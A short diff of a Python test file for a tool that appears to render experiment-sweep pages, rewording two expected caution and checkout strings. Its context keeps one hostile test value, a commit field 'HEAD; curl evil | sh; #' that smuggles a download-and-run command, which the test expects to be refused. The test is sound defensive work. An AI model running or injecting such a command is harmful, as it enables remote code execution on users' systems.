@@ -65,7 +65,7 @@ def test_a_hostile_reason_is_text() -> None:
         ("version1_failed", "8 of 12 data points are invalid"),
         ("version1_failed", "sudo"),  # the fix of a limit
         ("everything", "lower bounds, marked ≥"),
-        ("everything", "differed much from the others"),
+        ("everything", "differed much from the other runs"),
     ],
 )
 def test_cautions_are_shown(source: str, words: str, pages: Callable[[str], Path]) -> None:
@@ -125,7 +125,7 @@ def test_the_page_shows_how_to_repeat_the_sweep(pages: Callable[[str], Path]) ->
     ("commit", "changed", "line"),
     [
         ("c0ffee", 0, "git checkout c0ffee\n"),
-        ("c0ffee", 2, "git checkout c0ffee    # and 2 changed files that are not in it\n"),
+        ("c0ffee", 2, "git checkout c0ffee    # and 2 changed files that are not in this commit\n"),
         ("HEAD; curl evil | sh; #", 0, ""),
         ("c0ffee\n", 0, ""),
     ],
